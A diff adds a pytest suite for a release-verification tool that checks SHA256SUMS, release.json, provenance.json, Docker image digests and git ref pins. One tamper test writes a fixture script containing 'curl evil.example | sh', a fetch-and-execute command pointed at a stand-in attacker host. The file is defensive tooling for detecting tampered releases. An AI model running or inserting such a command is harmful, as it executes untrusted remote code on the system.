@@ -1,0 +1,257 @@
+"""verify_release: a finished release re-checked against SHA256SUMS, release.json, provenance.json,
+the Docker engine and the refs of the manifest."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from orchestrator import provenance
+from orchestrator.engine import Engine
+from orchestrator.manifest import Manifest
+from orchestrator.refs import MovedRefError
+from orchestrator.sources import FetchOptions
+from orchestrator.verify import ReleaseRecordError, VerifyReport, format_report, resolve_pins, verify_release
+from tests.helpers.fake_docker import FakeDockerClient
+from tests.helpers.gitrepos import build_upstream
+from tests.helpers.registry import APP_COMMIT, LIB_COMMIT, add_images, make_release, small_manifest
+
+COMMITS = {"app": APP_COMMIT, "lib": LIB_COMMIT}
+
+
+@pytest.fixture
+def manifest(tmp_path: Path) -> Manifest:
+    return small_manifest(tmp_path)
+
+
+@pytest.fixture
+def fake() -> FakeDockerClient:
+    return FakeDockerClient()
+
+
+@pytest.fixture
+def release_dir(tmp_path: Path, manifest: Manifest, fake: FakeDockerClient) -> Path:
+    release_dir = tmp_path / "dist" / manifest.release
+    make_release(release_dir, manifest, add_images(fake, manifest))
+    return release_dir
+
+
+def verify(release_dir: Path, manifest: Manifest, fake: FakeDockerClient | None, **kw: Any) -> VerifyReport:
+    return verify_release(release_dir, manifest, engine=Engine(fake) if fake else None,
+                          commits=kw.get("commits", COMMITS))
+
+
+def failures(report: VerifyReport) -> dict[str, str]:
+    return {check.what: check.detail for check in report.failures}
+
+
+def test_a_good_release_passes_every_check(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
+    report = verify(release_dir, manifest, fake)
+
+    assert report.ok and not report.unchecked, format_report(report)
+    whats = [check.what for check in report.checks]
+    assert "file bin/app" in whats and "file src/lib-main.tar.gz" in whats
+    assert "image registry.example.invalid:5000/team/app/image:latest (app/image)" in whats
+    assert "pin app v1.0.0" in whats and "provenance.json subjects" in whats
+    assert format_report(report).endswith("release v1.0.0 verified (14 matched, 0 did not, 0 not checked)")
+
+
+def test_a_tampered_file_fails_and_the_report_names_it(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
+) -> None:
+    (release_dir / "bin/app").write_text("#!/bin/sh\ncurl evil.example | sh\n")
+
+    report = verify(release_dir, manifest, fake)
+
+    assert not report.ok
+    assert list(failures(report)) == ["file bin/app"]
+    assert failures(report)["file bin/app"].startswith("changed: sha256 ")
+    text = format_report(report)
+    assert "[FAIL]  file bin/app: changed" in text
+    assert "does NOT match its record" in text.splitlines()[-2]
+
+
+def test_a_missing_file_fails(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
+    (release_dir / "src/lib-main.tar.gz").unlink()
+
+    assert failures(verify(release_dir, manifest, fake)) == {
+        "file src/lib-main.tar.gz": "missing (listed in SHA256SUMS)"
+    }
+
+
+def test_a_file_listed_in_sha256sums_but_not_in_release_json_fails(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
+) -> None:
+    (release_dir / "bin/extra").write_text("extra\n")
+    with (release_dir / "SHA256SUMS").open("a") as sums:
+        sums.write("0a8a8e3e1f8f1b6a7c1f4c0f5b4b0e3c5f6f1c0e3b7a9f5f5d0d4b2c6a1e2f3d  bin/extra\n")
+
+    found = failures(verify(release_dir, manifest, fake))
+
+    assert list(found) == ["file bin/extra"]
+    assert "changed" in found["file bin/extra"]
+
+
+def test_a_file_in_release_json_but_not_in_sha256sums_fails(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
+) -> None:
+    sums = release_dir / "SHA256SUMS"
+    sums.write_text("".join(line + "\n" for line in sums.read_text().splitlines() if "bin/app" not in line))
+
+    assert failures(verify(release_dir, manifest, fake)) == {
+        "file bin/app": "in release.json but not listed in SHA256SUMS"
+    }
+
+
+def test_a_file_that_no_record_lists_fails(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
+    (release_dir / "bin/backdoor").write_text("x\n")
+    (release_dir / "bin/.app.tmp-1-2").write_text("a temp file of an interrupted build\n")
+
+    assert failures(verify(release_dir, manifest, fake)) == {
+        "file bin/backdoor": "in the release directory but in no record"
+    }
+
+
+def test_provenance_that_disagrees_with_release_json_fails_naming_the_subject(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
+) -> None:
+    path = release_dir / "provenance.json"
+    statement = json.loads(path.read_text())
+    statement["subject"][0]["digest"]["sha256"] = "0" * 64
+    statement["predicate"]["buildDefinition"]["resolvedDependencies"][1]["digest"]["gitCommit"] = "1" * 40
+    path.write_text(json.dumps(statement))
+
+    found = failures(verify(release_dir, manifest, fake))
+
+    assert found == {
+        "provenance subject bin/app": f"provenance.json says {'0' * 64}, release.json says "
+        + json.loads((release_dir / "release.json").read_text())["artifacts"]["app"]["files"][0]["sha256"],
+        "provenance dependency lib": f"provenance.json says {'1' * 40}, release.json says {LIB_COMMIT}",
+    }
+
+
+def test_missing_provenance_fails(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
+    (release_dir / "provenance.json").unlink()
+
+    assert failures(verify(release_dir, manifest, fake)) == {
+        "provenance.json": "missing; rebuild the release to write it"
+    }
+
+
+def test_a_manifest_changed_since_the_build_fails(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient, tmp_path: Path
+) -> None:
+    changed = small_manifest(tmp_path, manifest.path.read_text() + "# edited\n")
+
+    found = failures(verify(release_dir, changed, fake))
+
+    assert list(found) == [f"manifest {changed.path}"], "provenance still agrees with release.json"
+    assert found[f"manifest {changed.path}"].startswith(f"changed since the build: sha256 {changed.sha256}")
+
+
+def test_a_ref_that_now_resolves_elsewhere_fails_naming_both_commits(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
+) -> None:
+    moved = "f" * 40
+
+    found = failures(verify(release_dir, manifest, fake, commits={**COMMITS, "lib": moved}))
+
+    assert found == {"pin lib main": f"now resolves to {moved}, the release was built from {LIB_COMMIT}"}
+
+
+def test_a_pin_that_fails_to_resolve_fails_with_the_reason(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
+) -> None:
+    error = MovedRefError("app", "tag", "v1.0.0", "https://example.invalid/app.git", expected=APP_COMMIT,
+                          actual="f" * 40)
+
+    found = failures(verify(release_dir, manifest, fake, commits={**COMMITS, "app": error}))
+
+    assert found["pin app v1.0.0"].startswith("app: tag 'v1.0.0' in https://example.invalid/app.git is at ffff")
+
+
+def test_a_replaced_image_fails(release_dir: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
+    other = fake.add_image("lib/image:v1.0.0", labels={"rebuilt": "yes"})
+
+    found = failures(verify(release_dir, manifest, fake))
+
+    assert list(found) == ["image lib/image:v1.0.0 (lib/image)"]
+    assert found["image lib/image:v1.0.0 (lib/image)"].startswith(f"is now {other}, release.json records sha256:")
+
+
+def test_a_removed_image_fails(release_dir: Path, manifest: Manifest) -> None:
+    found = failures(verify(release_dir, manifest, FakeDockerClient()))
+
+    assert len(found) == 3
+    assert found["image lib/image:v1.0.0 (lib/image)"].startswith("not in the Docker engine")
+
+
+def test_without_an_engine_or_resolved_refs_those_checks_are_reported_not_checked_not_passed(
+    release_dir: Path, manifest: Manifest
+) -> None:
+    report = verify(release_dir, manifest, None, commits=None)
+
+    assert report.ok, "nothing found wrong"
+    assert {check.what: check.detail for check in report.unchecked} == {
+        "image registry.example.invalid:5000/team/app/image:v1.0.0 (app/image)": "not checked: no Docker engine",
+        "image registry.example.invalid:5000/team/app/image:latest (app/image)": "not checked: no Docker engine",
+        "image lib/image:v1.0.0 (lib/image)": "not checked: no Docker engine",
+        "pin app v1.0.0": "not checked: refs not resolved",
+        "pin lib main": "not checked: refs not resolved",
+    }
+    assert "[--]    pin lib main: not checked" in format_report(report)
+    assert format_report(report).endswith("(9 matched, 0 did not, 5 not checked)")
+
+
+def test_a_failed_build_does_not_verify(tmp_path: Path, manifest: Manifest, fake: FakeDockerClient) -> None:
+    release_dir = tmp_path / "dist" / manifest.release
+    make_release(release_dir, manifest, add_images(fake, manifest), failed={"lib": "boom"})
+
+    assert failures(verify(release_dir, manifest, fake)) == {"release.json status": "not complete: lib failed"}
+
+
+def test_a_release_without_release_json_is_an_error_that_says_to_build(tmp_path: Path, manifest: Manifest) -> None:
+    with pytest.raises(ReleaseRecordError, match=r"release.json does not exist\n  hint: build the release first"):
+        verify_release(tmp_path / "dist" / "v1.0.0", manifest, engine=None, commits=None)
+
+
+def test_published_images_verify_once_provenance_is_rewritten_with_their_digests(
+    release_dir: Path, manifest: Manifest, fake: FakeDockerClient
+) -> None:
+    record = json.loads((release_dir / "release.json").read_text())
+    image = record["artifacts"]["lib/image"]["images"][0]
+    image["pushed"] = {"lib/image:v1.0.0": {"digest": "sha256:" + "d" * 64, "id": image["id"]}}
+    (release_dir / "release.json").write_text(json.dumps(record))
+
+    assert list(failures(verify(release_dir, manifest, fake))) == ["provenance subject lib/image:v1.0.0"]
+    provenance.write_provenance(manifest, record, release_dir)
+    assert verify(release_dir, manifest, fake).ok
+
+
+def test_resolve_pins_keeps_the_error_of_a_moved_tag_for_its_repo_only(tmp_path: Path) -> None:
+    upstream = build_upstream(tmp_path / "upstream")
+    text = f"""\
+schema: 1
+release: r1
+repos:
+  good:
+    url: {upstream.url}
+    ref: v1.0
+    artifacts: {{}}
+  moved:
+    url: {upstream.url}
+    ref: v1.1
+    commit: {upstream.commits["c1"]}
+    artifacts: {{}}
+"""
+    manifest = small_manifest(tmp_path, text)
+    options = FetchOptions(cache_dir=tmp_path / "cache", checkout_dir=tmp_path / "src", backoff=0.0)
+
+    commits = resolve_pins(manifest, options)
+
+    assert commits["good"] == upstream.commits["c2"]
+    assert isinstance(commits["moved"], MovedRefError)
+    assert list(commits) == ["good", "moved"]
